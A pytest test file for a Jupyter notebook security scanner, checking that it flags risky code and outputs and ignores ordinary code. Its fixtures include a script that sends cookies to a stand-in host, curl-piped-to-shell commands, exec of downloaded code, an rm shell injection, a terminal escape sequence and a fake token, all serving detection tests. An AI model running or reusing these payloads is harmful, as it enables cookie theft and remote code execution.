"""Each rule's documented examples are its tests: the bad ones are found, the good ones are not."""

from __future__ import annotations

from pathlib import Path

import pytest
from notebooks import code, display, frame_html, notebook, stream

from jupyter_secai import catalogue, review
from jupyter_secai.policy import Policy

# Rules about outputs are shown by the output, not by the code that made it.
_OUTPUTS = {
    "secret-in-output": stream("token: " + "ghp" + "_R8sT2uVwX4yZ6aBcD" + "9eFgH1iJkL3mNoP5qR7"),
    "personal-data-in-output": display(
        text_html=frame_html(["name", "email"], ["Anna Berger", "anna.berger@kontor-nord.de"])
    ),
    "people-singled-out": display(
        text_html=frame_html(
            ["birth_date", "zip", "sex"], ["1980-02-11", "10115", "f"], ["1975-07-01", "80331", "m"]
        )
    ),
    "business-data-in-output": display(
        text_html=frame_html(
            ["supplier_name", "purchase_price", "gross_margin"], ["Nordwerk KG", "12.40", "0.41"]
        )
    ),
    "personal-data-in-chart": {
        "output_type": "display_data",
        "metadata": {},
        "data": {"application/vnd.plotly.v1+json": {"data": [{"hovertext": ["anna.berger@kontor-nord.de"]}]}},
    },
}
_OUTPUTS |= {
    "hostile-script": display(text_html="<script>fetch('https://c.invalid/?' + document.cookie)</script>"),
    "remote-script": display(text_html='<script src="https://c.invalid/widget.js"></script>'),
    "inline-script": display(application_javascript="element.append('hello')"),
    "script-link": display(text_html='<a href="javascript:start()">menu</a>'),
    "remote-frame": display(text_html='<iframe src="https://c.invalid/page"></iframe>'),
    "page-redirect": display(text_html='<meta http-equiv="refresh" content="0; url=https://c.invalid/">'),
    "remote-form": display(text_html='<form action="https://c.invalid/"><input type="password"></form>'),
    "remote-beacon": display(text_markdown='<img src="https://c.invalid/p.gif" width="1" height="1">'),
    "terminal-sequences": stream("\x1b]52;c;Y3VybA==\x07done"),
}
# What is known of versions is the user's to give.
_POLICY = Policy(vulnerabilities=Path(__file__).parent / "advisories" / "osv.json")
_SHARED_EXAMPLES = [
    (name, source, kind)
    for name, rule in catalogue.rules().items()
    for kind, sources in (("bad", rule.bad), ("good", rule.good))
    for source in sources
]


def _found(source: str, *outputs: dict[str, object]) -> set[str]:
    return {finding.rule for finding in review(notebook(code(source, *outputs)), policy=_POLICY).findings}


@pytest.mark.parametrize(("name", "source", "kind"), _SHARED_EXAMPLES)
def test_examples(name: str, source: str, kind: str) -> None:
    outputs = [_OUTPUTS[name]] if name in _OUTPUTS and kind == "bad" else []
    assert (name in _found(source, *outputs)) is (kind == "bad")


@pytest.mark.parametrize("name", list(catalogue.rules()))
def test_rows_refer_to_what_exists(name: str) -> None:
    rule = catalogue.rules()[name]
    items = {item.id for threat in catalogue.threats().values() for item in threat.evidence}
    assert set(rule.evidence) <= items
    assert set(rule.checklist) <= set(catalogue.checklist())
    assert set(rule.threats) <= set(catalogue.threats())


def test_at_least_fifteen_rules_over_the_asked_categories() -> None:
    categories = {rule.category for rule in catalogue.rules().values()}
    asked = {
        "secret",
        "deserialization",
        "command-injection",
        "code-execution",
        "supply-chain",
        "cleartext-network",
    }
    assert len(catalogue.rules()) >= 15
    assert asked | {"personal-data"} <= categories


BYPASSES = [
    ("pickle-load", "from pickle import load as l\nl(open('m', 'rb'))"),
    ("pickle-load", "import pickle as p\nloads = p.loads\nloads(data)"),
    ("pickle-load", "from joblib import *\nload('m.joblib')"),
    ("pickle-load", "import pickle\nif True:\n    with open('m', 'rb') as f:\n        m = pickle.load(f)"),
    ("pickle-load", "import pickle\ndef restore(path):\n    return pickle.load(open(path, 'rb'))"),
    ("pickle-load", "import sklearn.externals.joblib\nsklearn.externals.joblib.load('m')"),
    ("untrusted-code", "import builtins, requests\nbuiltins.exec(requests.get('https://a.invalid').text)"),
    ("untrusted-code", "import requests as r\nt = r.get('https://a.invalid').text\nu = t.strip()\nexec(u)"),
    ("shell-injection", "import os\nn = input()\ncmd = 'rm ' + n\nos.system(cmd)"),
    ("shell-injection", "from subprocess import run as go\nn = input()\ngo('ls {}'.format(n), shell=True)"),
    ("remote-code", "%%bash\ncurl -sSL https://a.invalid/i.sh | bash"),
    ("remote-code", "if True:\n    !curl https://a.invalid/i.sh | sudo sh"),
    ("tls-off", "from requests import get\nget('https://a.invalid', verify=False)"),
    ("tls-off", "import requests\ns = requests.Session()\ns.get('https://a.invalid', verify=False)"),
    ("install-from-address", "import sys\n!{sys.executable} -m pip install git+https://github.com/o/p"),
    ("install-from-address", "%%bash\npip install \\\n  git+https://github.com/o/p.git"),
    (
        "cleartext-download",
        "import pandas as pd\nBASE = 'http://data.shop.invalid/'\npd.read_csv(BASE + 'a.csv')",
    ),
    (
        "cleartext-download",
        "import pandas as pd\nfor n in ['a']:\n    pd.read_csv(f'http://data.shop.invalid/{n}.csv')",
    ),
]


@pytest.mark.parametrize(("name", "source"), BYPASSES)
def test_other_ways_of_writing_it(name: str, source: str) -> None:
    assert name in _found(source)


QUIET = [
    "load = lambda x: x\nload('pickle.load')",
    "text = 'pickle.load(file)'",
    "# exec(requests.get(url).text)\nx = 1",
    "class pickle:\n    pass\npickle.load = 1",
    "df.eval('a + b')",
    "model.eval()",
    "api_key = os.environ['API_KEY']",
    "password = getpass.getpass()",
    "token = tokenizer.pad_token",
    "pad_token = '[PAD]'",
    "password = '<your password>'",
    "sha = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'",
    "plt.figure(figsize=(10, 4))",
    "!wget http://localhost:8080/x",
    "print('hello')",
]


@pytest.mark.parametrize("source", QUIET)
def test_ordinary_code_is_quiet(source: str) -> None:
    assert _found(source) == set()


def test_an_alias_from_an_earlier_cell_is_known() -> None:
    result = review(notebook("import pickle as p", "p.load(open('m', 'rb'))"))
    assert [(f.rule, f.location.cell) for f in result.findings] == [("pickle-load", 1)]


def test_a_download_makes_a_pickle_critical_and_shows_the_way() -> None:
    result = review(
        notebook("!wget https://models.invalid/m.pkl", "import pickle\nm = pickle.load(open('m.pkl', 'rb'))")
    )
    [finding] = [f for f in result.findings if f.rule == "pickle-load"]
    assert finding.severity == "critical"
    assert (finding.trace[0].cell, finding.trace[0].note) == (0, "wget")


def test_a_pickle_that_the_notebook_wrote_is_only_noted() -> None:
    result = review(notebook("import joblib\njoblib.dump(m, 'm.joblib')", "m = joblib.load('m.joblib')"))
    assert [f.severity for f in result.findings if f.rule == "pickle-load"] == ["info"]


def test_an_ignore_needs_a_reason() -> None:
    line = "import pickle\npickle.load(f)  # secai: ignore[pickle-load]"
    assert "pickle-load" in _found(line)
    assert "pickle-load" not in _found(line + " written by our own pipeline")


def test_dropping_the_column_ends_the_finding() -> None:
    read = "import pandas as pd, requests\np = pd.read_csv('p.csv')\np['email'].nunique()"
    send = "requests.post('https://api.vendor.invalid', json=p.to_dict())"
    assert "personal-data-sent-out" in {f.rule for f in review(notebook(read, send)).findings}
    dropped = "p = p.drop(columns=['email'])\n"
    assert "personal-data-sent-out" not in {f.rule for f in review(notebook(read, dropped + send)).findings}
